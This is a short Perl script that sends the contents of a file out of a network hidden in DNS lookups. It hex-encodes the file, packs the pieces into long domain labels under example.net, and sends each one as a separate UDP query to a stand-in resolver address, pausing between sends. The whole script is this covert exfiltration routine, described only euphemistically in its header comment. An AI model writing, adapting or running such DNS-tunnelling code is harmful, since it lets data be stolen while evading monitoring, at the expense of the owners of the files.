#!/usr/bin/perl
# long-names.pl FILE SECONDS: a file leaves by a few names that are as long as names may be (RFC 1035, 2.3.4), with seconds in between.
# Each is asked for by a socket of its own, once, and has to be answered.
require '/opt/agent/peer.pl';
my ($path, $seconds) = @ARGV;
my $text = unpack 'H*', whole($path);
for my $piece (unpack '(a216)4', $text) {
    next unless length $piece;
    my $name = pack '(C/a)*x', unpack('(a54)*', $piece), qw(example net);
    my $link = IO::Socket::INET->new(PeerAddr => '192.0.2.53:53', Proto => 'udp') or exit 4;
    $link->send(pack('n6', 4242, 256, 1, 0, 0, 0) . $name . pack('n2', 28, 1)) or exit 9;
    $link->recv(my $answer, 512);
    exit 9 unless length $answer > 12;
    close $link;
    select undef, undef, undef, $seconds;
}
